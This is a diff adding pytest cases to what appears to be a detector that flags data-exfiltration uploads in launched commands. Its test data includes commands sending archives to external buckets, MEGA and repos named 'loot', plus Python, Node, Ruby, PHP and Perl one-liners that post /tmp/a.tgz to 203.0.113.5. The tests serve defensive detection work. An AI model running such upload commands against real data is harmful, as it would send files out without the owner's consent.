@@ -204,6 +204,14 @@ def test_encryption(cmd: str, encrypts: bool) -> None:
         ("rclone copy /data remote:bucket", "rclone", "remote:", False),
         ("aws s3 cp /tmp/x.tgz s3://bucket/x", "aws s3", "bucket", False),
         ("gsutil cp /tmp/x.tgz gs://bkt/x", "gsutil", "bkt", False),
+        ("s3cmd put /tmp/x.tgz s3://drop-bucket/", "s3cmd", "drop-bucket", False),
+        ("s5cmd cp /tmp/x.tgz s3://drop-bucket/x.tgz", "s5cmd", "drop-bucket", False),
+        ("mega-put /tmp/x.tgz /Root/", "mega", "mega.nz", False),
+        ("megatools put /tmp/x.tgz", "megatools", "mega.nz", False),
+        ("oras push ghcr.io/someone/blob:1 /tmp/x.tgz", "oras", "ghcr.io", False),
+        ("oras push localhost:5000/blob:1 /tmp/x.tgz", "oras", "localhost", True),
+        ("git push https://github.com/someone/loot.git main", "git push", "github.com", False),
+        ("git push git@gitlab.com:someone/loot.git", "git push", "gitlab.com", False),
     ],
 )
 def test_uploads(cmd: str, tool: str, where: str, internal: bool) -> None:
@@ -224,10 +232,47 @@ def test_uploads(cmd: str, tool: str, where: str, internal: bool) -> None:
         "nc -l -p 4444",  # listening
         "nc 198.51.100.1 4444",  # nothing shown feeding it
         "wget https://example.com/a.tgz",
+        "git push origin feature/new-login",  # a remote by name: where it goes is not shown
+        "git pull https://github.com/org/repo.git",
+        "s3cmd get s3://bucket/x /tmp/x",
+        "oras pull ghcr.io/org/blob:1",
+        "python3 -c 'import requests; print(requests.get(\"https://example.com\").text)'",
+        "node -e 'fetch(\"https://example.com\").then(r => r.text())'",
     ],
 )
 def test_downloads_and_listeners_are_not_uploads(cmd: str) -> None:
     assert detector.signals(launch(cmd)) == []
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        'python3 -c \'import requests; requests.post("https://203.0.113.5/u", '
+        'files={"f": open("/tmp/a.tgz", "rb")})\'',
+        'python3 -c \'import urllib.request as u; u.urlopen(u.Request("https://203.0.113.5/u", '
+        'data=open("/tmp/a.tgz", "rb").read()))\'',
+        'node -e \'fetch("https://203.0.113.5/u", {method: "PUT", '
+        'body: require("fs").readFileSync("/tmp/a.tgz")})\'',
+        'ruby -rnet/http -e \'Net::HTTP.post(URI("https://203.0.113.5/u"), '
+        'File.read("/tmp/a.tgz"))\'',
+        'php -r \'$c=curl_init("https://203.0.113.5/u"); '
+        'curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents("/tmp/a.tgz")); curl_exec($c);\'',
+        'perl -MLWP::UserAgent -e \'LWP::UserAgent->new->post("https://203.0.113.5/u", '
+        'Content => [f => ["/tmp/a.tgz"]])\'',
+    ],
+)
+def test_interpreter_http_clients_sending_a_body_are_uploads(cmd: str) -> None:
+    [signal] = detector.signals(launch(cmd))
+    assert signal.kind is SignalKind.UPLOAD
+    assert signal.destination is not None
+    assert signal.destination.ip == "203.0.113.5"
+    assert "/tmp/a.tgz" in signal.sent_paths
+
+
+def test_git_archive_is_archiving() -> None:
+    assert kinds("git archive --format=tar.gz -o /tmp/src.tgz HEAD") == [
+        ("archive", "git", "/tmp/src.tgz")
+    ]
 
 
 def test_pipeline_in_shell_wrapper_links_archiver_to_uploader() -> None:
